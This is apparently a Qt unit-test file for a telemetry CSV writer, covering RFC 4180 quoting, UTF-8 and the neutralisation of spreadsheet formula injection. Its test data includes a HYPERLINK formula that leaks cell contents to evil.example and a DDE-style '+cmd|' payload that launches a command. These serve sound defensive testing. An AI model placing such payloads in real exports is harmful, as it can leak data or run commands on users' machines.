#include "csvreadback.h"
#include "telemetry/csvwriter.h"
#include "telemetry/eventcsv.h"
#include "telemetry/jsonlinesformatter.h"

#include <QDateTime>
#include <QFile>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QTest>

#include <limits>
#include <vector>

using namespace breakwater;
using namespace breakwater::csvtest;
using namespace std::chrono_literals;

namespace {

struct HostileCell
{
    const char* name;
    QString text;
    QString readsBack; // what a CSV reader must give back: the text, `'` in front if neutralised
};

QString repeated(QStringView piece, int times)
{
    QString text;
    text.reserve(piece.size() * times);
    for (int i = 0; i < times; ++i)
        text += piece;
    return text;
}

// Text a remote server or a config file can put in a message, reason, error code or service
// name. The expected read-back is spelled out here, not computed with the writer's rule.
std::vector<HostileCell> hostileCells()
{
    const QString hyperlink =
        QStringLiteral("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click me\")");
    const QString longSpecials = QLatin1Char('=') + repeated(u"a\"b,c\r\nd", 20'000);
    const QString longCjk = QLatin1Char('@') + repeated(u"日本語,", 30'000);
    return {
        {"plain", QStringLiteral("HTTP 503 Service Unavailable"),
         QStringLiteral("HTTP 503 Service Unavailable")},
        {"formula =1+1", QStringLiteral("=1+1"), QStringLiteral("'=1+1")},
        {"formula +cmd", QStringLiteral("+cmd|' /C calc'!A0"),
         QStringLiteral("'+cmd|' /C calc'!A0")},
        {"formula -2", QStringLiteral("-2"), QStringLiteral("'-2")},
        {"formula -2+3", QStringLiteral("-2+3"), QStringLiteral("'-2+3")},
        {"formula @SUM", QStringLiteral("@SUM(A1:A9)"), QStringLiteral("'@SUM(A1:A9)")},
        {"leading tab", QStringLiteral("\t=1+1"), QStringLiteral("'\t=1+1")},
        {"leading CR", QStringLiteral("\r=1+1"), QStringLiteral("'\r=1+1")},
        {"HYPERLINK with quotes and commas", hyperlink, QLatin1Char('\'') + hyperlink},
        {"formula with line break", QStringLiteral("=1+1\n=2+2"), QStringLiteral("'=1+1\n=2+2")},
        {"formula characters later", QStringLiteral("1+1=2 -3 @x"), QStringLiteral("1+1=2 -3 @x")},
        // Only the first character decides: a leading space already makes the cell text.
        {"space before =", QStringLiteral(" =1+1"), QStringLiteral(" =1+1")},
        {"apostrophe already there", QStringLiteral("'=1+1"), QStringLiteral("'=1+1")},
        {"quotes inside", QStringLiteral("say \"hi\" twice \"\""),
         QStringLiteral("say \"hi\" twice \"\"")},
        {"lone quote", QStringLiteral("\""), QStringLiteral("\"")},
        {"quote first", QStringLiteral("\"quoted\" start"), QStringLiteral("\"quoted\" start")},
        {"commas", QStringLiteral("a,b,,c,"), QStringLiteral("a,b,,c,")},
        {"embedded LF", QStringLiteral("line 1\nline 2"), QStringLiteral("line 1\nline 2")},
        {"embedded CR", QStringLiteral("line 1\rline 2"), QStringLiteral("line 1\rline 2")},
        {"embedded CRLF", QStringLiteral("line 1\r\nline 2\r\n"),
         QStringLiteral("line 1\r\nline 2\r\n")},
        {"only CRLF", QStringLiteral("\r\n"), QStringLiteral("'\r\n")},
        {"accents", QStringLiteral("café déjà vu é"), QStringLiteral("café déjà vu é")},
        {"japanese", QStringLiteral("日本語のエラー"), QStringLiteral("日本語のエラー")},
        {"emoji (surrogate pairs)", QStringLiteral("quota 😀🎉 over"),
         QStringLiteral("quota 😀🎉 over")},
        {"emoji first", QStringLiteral("🎉=1"), QStringLiteral("🎉=1")},
        {"formula with non-ASCII", QStringLiteral("=\"日本\"&\"😀\""),
         QStringLiteral("'=\"日本\"&\"😀\"")},
        {"empty", QString(), QString()},
        {"single space", QStringLiteral(" "), QStringLiteral(" ")},
        {"very long plain", QString(100'000, QLatin1Char('x')), QString(100'000, QLatin1Char('x'))},
        {"very long all quotes", QString(50'000, QLatin1Char('"')),
         QString(50'000, QLatin1Char('"'))},
        {"very long formula with specials", longSpecials, QLatin1Char('\'') + longSpecials},
        {"very long non-ASCII formula", longCjk, QLatin1Char('\'') + longCjk},
    };
}

QByteArray oneRecord(QStringView text)
{
    QByteArray out;
    CsvWriter csv(out);
    csv.addField(text);
    csv.endRecord();
    return out;
}

} // namespace

class TestCsvWriter : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    int m_files = 0;

    // Writes the bytes to a new file and reads it back with Python's csv module.
    CsvReadBack readBack(const QByteArray& bytes)
    {
        const QString path = m_dir.filePath(QStringLiteral("%1.csv").arg(++m_files));
        QFile file(path);
        if (!file.open(QIODevice::WriteOnly) || file.write(bytes) != bytes.size())
            return {{}, QStringLiteral("cannot write %1").arg(path)};
        file.close();
        return readCsvWithPython(path);
    }

private Q_SLOTS:
    void initTestCase() { QVERIFY(m_dir.isValid()); }

    // The few byte sequences RFC 4180 leaves no choice about, and where the `'` goes.
    void exactBytes_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QByteArray>("bytes");
        QTest::addRow("plain") << QStringLiteral("abc") << QByteArray("abc\r\n");
        QTest::addRow("comma") << QStringLiteral("a,b") << QByteArray("\"a,b\"\r\n");
        QTest::addRow("quotes doubled")
            << QStringLiteral("say \"hi\"") << QByteArray("\"say \"\"hi\"\"\"\r\n");
        QTest::addRow("formula") << QStringLiteral("=1+1") << QByteArray("'=1+1\r\n");
        // Inside the quotes: a quoted field begins with its quote or it is no quoted field.
        QTest::addRow("quoted formula") << QStringLiteral("=HYPERLINK(\"x\",\"y\")")
                                        << QByteArray("\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"\r\n");
        QTest::addRow("leading CR") << QStringLiteral("\rx") << QByteArray("\"'\rx\"\r\n");
        QTest::addRow("UTF-8, no BOM")
            << QStringLiteral("é😀") << QByteArray("\xc3\xa9\xf0\x9f\x98\x80\r\n");
        QTest::addRow("lone surrogate") << QString(QChar(0xd800)) << QByteArray("\xef\xbf\xbd\r\n");
        // A bare CRLF would be a blank line, which readers drop: the record would vanish.
        QTest::addRow("empty") << QString() << QByteArray("\"\"\r\n");
    }
    void exactBytes()
    {
        QFETCH(QString, text);
        QFETCH(QByteArray, bytes);
        QCOMPARE(oneRecord(text), bytes);
    }

    void hostileCellReadsBack_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("readsBack");
        for (const HostileCell& cell : hostileCells())
            QTest::addRow("%s", cell.name) << cell.text << cell.readsBack;
    }
    // Alone, between neighbours, twice in a row, and through the UTF-8 entry point: the cell
    // and its neighbours come back exactly, and no record leaks into another.
    void hostileCellReadsBack()
    {
        QFETCH(QString, text);
        QFETCH(QString, readsBack);
        QByteArray out;
        CsvWriter csv(out);
        csv.addField(text);
        csv.endRecord();
        csv.addField(u"before");
        csv.addField(text);
        csv.addField(u"after");
        csv.endRecord();
        csv.addField(text);
        csv.addField(text);
        csv.endRecord();
        csv.addUtf8Field(text.toUtf8());
        csv.addEmptyField();
        csv.endRecord();

        const CsvReadBack read = readBack(out);
        QVERIFY2(read.ok(), qPrintable(read.error));
        QCOMPARE(read.records.size(), 4);
        QCOMPARE(read.records[0], QStringList{readsBack});
        QCOMPARE(read.records[1],
                 (QStringList{QStringLiteral("before"), readsBack, QStringLiteral("after")}));
        QCOMPARE(read.records[2], (QStringList{readsBack, readsBack}));
        QCOMPARE(read.records[3], (QStringList{readsBack, QString()}));
    }

    // Every hostile cell in one file, one record each: a cell that broke quoting would shift
    // every record after it.
    void allHostileCellsInOneFile()
    {
        QByteArray out;
        CsvWriter csv(out);
        const std::vector<HostileCell> cells = hostileCells();
        for (std::size_t i = 0; i < cells.size(); ++i) {
            csv.addField(std::uint64_t(i));
            csv.addField(cells[i].text);
            csv.endRecord();
        }
        const CsvReadBack read = readBack(out);
        QVERIFY2(read.ok(), qPrintable(read.error));
        QCOMPARE(read.records.size(), qsizetype(cells.size()));
        for (std::size_t i = 0; i < cells.size(); ++i) {
            const QStringList expected{QString::number(i), cells[i].readsBack};
            QVERIFY2(read.records[qsizetype(i)] == expected, cells[i].name);
        }
    }

    void loneSurrogateBecomesReplacementCharacter()
    {
        // A QString can hold half a surrogate pair; the file must still be valid UTF-8.
        const QString text =
            QStringLiteral("a") + QChar(0xd83d) + QStringLiteral("b,") + QChar(0xde00);
        const CsvReadBack read = readBack(oneRecord(text));
        QVERIFY2(read.ok(), qPrintable(read.error));
        QCOMPARE(read.records, QList<QStringList>{QStringList{QStringLiteral("a\uFFFDb,\uFFFD")}});
    }

    // Numbers the program formats itself are not attacker text: a negative one is a number to a
    // spreadsheet, and a `'` would make it text that no longer sums.
    void numbersAreWrittenBare_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QStringList>("cells");
        const auto record = [](auto&& write) {
            QByteArray out;
            CsvWriter csv(out);
            write(csv);
            csv.endRecord();
            return out;
        };
        QTest::addRow("signed") << record([](CsvWriter& csv) {
            csv.addField(std::int64_t(0));
            csv.addField(std::int64_t(503));
            csv.addField(std::int64_t(-2));
            csv.addField(std::numeric_limits<std::int64_t>::min());
            csv.addField(std::numeric_limits<std::int64_t>::max());
        })
                                << QStringList{QStringLiteral("0"), QStringLiteral("503"),
                                               QStringLiteral("-2"),
                                               QStringLiteral("-9223372036854775808"),
                                               QStringLiteral("9223372036854775807")};
        QTest::addRow("unsigned") << record([](CsvWriter& csv) {
            csv.addField(std::uint64_t(0));
            csv.addField(std::numeric_limits<std::uint64_t>::max());
        }) << QStringList{QStringLiteral("0"), QStringLiteral("18446744073709551615")};
        QTest::addRow("formatted decimals") << record([](CsvWriter& csv) {
            csv.addNumberField("-1.5");
            csv.addNumberField("3.125");
            csv.addNumberField("-0");
        }) << QStringList{QStringLiteral("-1.5"), QStringLiteral("3.125"), QStringLiteral("-0")};
        // What is not a plain number is text, and neutralised as text.
        QTest::addRow("not numbers") << record([](CsvWriter& csv) {
            csv.addNumberField("-1+1");
            csv.addNumberField("=1");
            csv.addNumberField("-");
            csv.addNumberField("-1.");
            csv.addNumberField("1e5");
            csv.addNumberField("");
        }) << QStringList{QStringLiteral("'-1+1"), QStringLiteral("'=1"), QStringLiteral("'-"),
                          QStringLiteral("'-1."),  QStringLiteral("1e5"), QString()};
        // Text that looks like a negative number is still text from outside: neutralised.
        QTest::addRow("text -2") << record([](CsvWriter& csv) {
            csv.addField(u"-2");
            csv.addUtf8Field("-2");
        }) << QStringList{QStringLiteral("'-2"), QStringLiteral("'-2")};
    }
    void numbersAreWrittenBare()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QStringList, cells);
        const CsvReadBack read = readBack(bytes);
        QVERIFY2(read.ok(), qPrintable(read.error));
        QCOMPARE(read.records, QList<QStringList>{cells});
    }

    void appendsToTheCallersBuffer()
    {
        QByteArray out("existing\r\n");
        {
            CsvWriter csv(out);
            csv.addField(u"a");
            csv.addEmptyField();
            csv.addField(std::int64_t(-1));
            csv.endRecord();
        }
        QCOMPARE(out, QByteArray("existing\r\na,,-1\r\n"));
        // Emptied and reused, as the exporter does per chunk.
        out.resize(0);
        CsvWriter csv(out);
        csv.addEmptyField();
        csv.addField(u"b");
        csv.endRecord();
        QCOMPARE(out, QByteArray(",b\r\n"));
    }

    void headerIsTheLogFieldNames()
    {
        // The app.log fields as design.md lists them, in its order.
        const QStringList logFields{
            QStringLiteral("ts"),         QStringLiteral("level"),
            QStringLiteral("event"),      QStringLiteral("service"),
            QStringLiteral("call_id"),    QStringLiteral("attempt"),
            QStringLiteral("state"),      QStringLiteral("from_state"),
            QStringLiteral("to_state"),   QStringLiteral("reason"),
            QStringLiteral("latency_ms"), QStringLiteral("delay_ms"),
            QStringLiteral("error_kind"), QStringLiteral("http_status"),
            QStringLiteral("error_code"), QStringLiteral("message"),
        };
        QByteArray out;
        CsvWriter csv(out);
        EventCsvFormatter().writeHeader(csv);
        const CsvReadBack read = readBack(out);
        QVERIFY2(read.ok(), qPrintable(read.error));
        QCOMPARE(read.records, QList<QStringList>{logFields});

        // And the names the log writer really writes, in the same order, for an event that has
        // all of them (`seq` is the log's own completeness marker, not an event field).
        const QByteArray line = JsonLinesFormatter().format(fullEvent(QStringLiteral("msg")));
        const QJsonObject object = QJsonDocument::fromJson(line).object();
        QStringList keys = object.keys();
        keys.removeOne(QStringLiteral("seq"));
        QStringList sortedFields = logFields;
        sortedFields.sort();
        QCOMPARE(keys, sortedFields); // QJsonObject keeps its keys sorted
        qsizetype previous = -1;
        for (const QString& field : logFields) {
            const qsizetype at = line.indexOf(QByteArray("\"" + field.toUtf8() + "\":"));
            QVERIFY2(at > previous, qPrintable(field));
            previous = at;
        }
    }

    void eventReadsBack_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("readsBack");
        for (const HostileCell& cell : hostileCells())
            QTest::addRow("%s", cell.name) << cell.text << cell.readsBack;
    }
    // Hostile text in every free-text field; the other fields as the log writes them.
    void eventReadsBack()
    {
        QFETCH(QString, text);
        QFETCH(QString, readsBack);
        Event event = fullEvent(text);
        event.service = text;
        event.reason = text;
        event.errorCode = text;

        QByteArray out;
        CsvWriter csv(out);
        EventCsvFormatter formatter;
        formatter.writeHeader(csv);
        formatter.writeRecord(csv, event);
        const CsvReadBack read = readBack(out);
        QVERIFY2(read.ok(), qPrintable(read.error));
        QCOMPARE(read.records.size(), 2);
        const QStringList expected{
            QStringLiteral("2025-11-28T15:04:05.123Z"), // sub-millisecond digits cut, not rounded
            QStringLiteral("warning"),
            QStringLiteral("breaker_transition"),
            readsBack,
            QStringLiteral("call-42"),
            QStringLiteral("3"),
            QStringLiteral("open"),
            QStringLiteral("half_open"),
            QStringLiteral("forced_open"),
            readsBack,
            QStringLiteral("12.5"),
            QStringLiteral("250"),
            QStringLiteral("transient"),
            QStringLiteral("503"),
            readsBack,
            readsBack,
        };
        QCOMPARE(read.records[1], expected);
    }

    // The spreadsheet and the log say the same thing: every cell of a record is the value of the
    // same field in the event's app.log line.
    void recordAgreesWithTheLogLine()
    {
        const Event event = fullEvent(QStringLiteral("HTTP 503"));
        QByteArray out;
        CsvWriter csv(out);
        EventCsvFormatter formatter;
        formatter.writeHeader(csv);
        formatter.writeRecord(csv, event);
        const CsvReadBack read = readBack(out);
        QVERIFY2(read.ok(), qPrintable(read.error));
        QCOMPARE(read.records.size(), 2);
        const QJsonObject log =
            QJsonDocument::fromJson(JsonLinesFormatter().format(event)).object();
        for (qsizetype i = 0; i < read.records[0].size(); ++i) {
            const QString& column = read.records[0][i];
            const QString& cell = read.records[1][i];
            const QJsonValue value = log.value(column);
            if (value.isDouble())
                QCOMPARE(cell.toDouble(), value.toDouble());
            else
                QCOMPARE(cell, value.toString());
        }
    }

    // The ts column matches Qt's own ISO-8601 rendering, milliseconds and all.
    void timestampIsIsoUtcWithMilliseconds()
    {
        Event event;
        const qint64 ms = 1'700'000'000'999;
        event.time = WallTime(std::chrono::milliseconds(ms)) + 999us;
        QByteArray out;
        CsvWriter csv(out);
        EventCsvFormatter().writeRecord(csv, event);
        const CsvReadBack read = readBack(out);
        QVERIFY2(read.ok(), qPrintable(read.error));
        QCOMPARE(read.records.size(), 1);
        QCOMPARE(read.records[0].value(0),
                 QDateTime::fromMSecsSinceEpoch(ms).toUTC().toString(Qt::ISODateWithMs));
    }

    void absentFieldsAreEmptyCells()
    {
        Event event;
        event.time = WallTime(std::chrono::milliseconds(1'764'342'245'000));
        event.type = EventType::CallStarted;
        event.service = QStringLiteral("elevenlabs");
        QByteArray out;
        CsvWriter csv(out);
        EventCsvFormatter().writeRecord(csv, event);
        const CsvReadBack read = readBack(out);
        QVERIFY2(read.ok(), qPrintable(read.error));
        QStringList expected(16);
        expected[0] = QStringLiteral("2025-11-28T15:04:05.000Z");
        expected[1] = QStringLiteral("info");
        expected[2] = QStringLiteral("call_started");
        expected[3] = QStringLiteral("elevenlabs");
        QCOMPARE(read.records, QList<QStringList>{expected});
    }

    // A latency from a clock that stepped back, a negative delay: numbers, written bare.
    void negativeNumbersInEventsAreBare()
    {
        Event event = fullEvent(QStringLiteral("x"));
        event.latencyMs = -1.5;
        event.delayMs = -250;
        event.attempt = -1;
        event.httpStatus = -1;
        QByteArray out;
        CsvWriter csv(out);
        EventCsvFormatter().writeRecord(csv, event);
        const CsvReadBack read = readBack(out);
        QVERIFY2(read.ok(), qPrintable(read.error));
        QCOMPARE(read.records.size(), 1);
        const QStringList& cells = read.records[0];
        QCOMPARE(cells.value(5), QStringLiteral("-1"));
        QCOMPARE(cells.value(10), QStringLiteral("-1.5"));
        QCOMPARE(cells.value(11), QStringLiteral("-250"));
        QCOMPARE(cells.value(13), QStringLiteral("-1"));
    }

    // Like the log, a latency that is not a number is left out, not written as "nan" or "inf".
    void nonFiniteLatencyIsEmpty()
    {
        Event event = fullEvent(QStringLiteral("x"));
        for (const double latency :
             {std::numeric_limits<double>::quiet_NaN(), -std::numeric_limits<double>::infinity()}) {
            event.latencyMs = latency;
            QByteArray out;
            CsvWriter csv(out);
            EventCsvFormatter().writeRecord(csv, event);
            const CsvReadBack read = readBack(out);
            QVERIFY2(read.ok(), qPrintable(read.error));
            QCOMPARE(read.records.size(), 1);
            QCOMPARE(read.records[0].value(10, QStringLiteral("missing")), QString());
        }
    }

private:
    static Event fullEvent(const QString& message)
    {
        Event event;
        event.sequence = 7;
        event.time = WallTime(std::chrono::milliseconds(1'764'342'245'123)) + 987us;
        event.type = EventType::BreakerTransition;
        event.level = EventLevel::Warning;
        event.service = QStringLiteral("elevenlabs");
        event.callId = 42;
        event.attempt = 3;
        event.state = BreakerState::Open;
        event.fromState = BreakerState::HalfOpen;
        event.toState = BreakerState::ForcedOpen;
        event.reason = QStringLiteral("failure_rate");
        event.latencyMs = 12.5;
        event.delayMs = 250;
        event.errorKind = ErrorKind::Transient;
        event.httpStatus = 503;
        event.errorCode = QStringLiteral("quota_exceeded");
        event.message = message;
        return event;
    }
};

QTEST_GUILESS_MAIN(TestCsvWriter)
#include "tst_csvwriter.moc"
